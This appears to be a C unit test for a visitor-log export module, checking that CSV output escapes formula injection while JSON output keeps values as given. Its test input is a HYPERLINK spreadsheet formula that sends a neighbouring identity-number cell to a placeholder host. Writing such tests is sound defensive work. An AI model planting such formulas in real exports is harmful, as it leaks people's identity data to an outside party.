/* Exports for spreadsheets: a visitor who gives "=HYPERLINK(…)" as a name must not put
 * a formula beside the identity numbers of the CSV the office opens in Excel. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "frontdesk/export.h"
#include "testlib.h"

static char *export_one_row(fd_export_format format, const char *const values[2])
{
    char *text = NULL;
    size_t size = 0;
    FILE *out = open_memstream(&text, &size);
    static const char *const columns[] = {"visitor", "doc_number"};
    fd_export *e = fd_export_begin(out, format, columns, 2);
    fd_export_row(e, values);
    fd_error err = {0};
    ck_assert_int_eq(fd_export_end(e, &err), FD_OK);
    fclose(out);
    return text;
}

START_TEST(csv_cells_that_would_be_formulas_are_text)
{
    const char *const row[] = {"=HYPERLINK(\"http://x.example/?\"&B2,\"查看\")", "110105194912310021"};
    char *csv = export_one_row(FD_EXPORT_CSV, row);
    ck_assert_msg(strstr(csv, "\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"查看\"\")\",110105194912310021\r\n"),
                  "%s", csv);
    free(csv);
    /* JSON is for programs, which take the value as it is. */
    char *json = export_one_row(FD_EXPORT_JSON, row);
    ck_assert_msg(strstr(json, "\"visitor\": \"=HYPERLINK("), "%s", json);
    free(json);
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("export");
    TCase *tc = tcase_create("export");
    tcase_add_test(tc, csv_cells_that_would_be_formulas_are_text);
    suite_add_tcase(suite, tc);
    return testlib_run(suite);
}
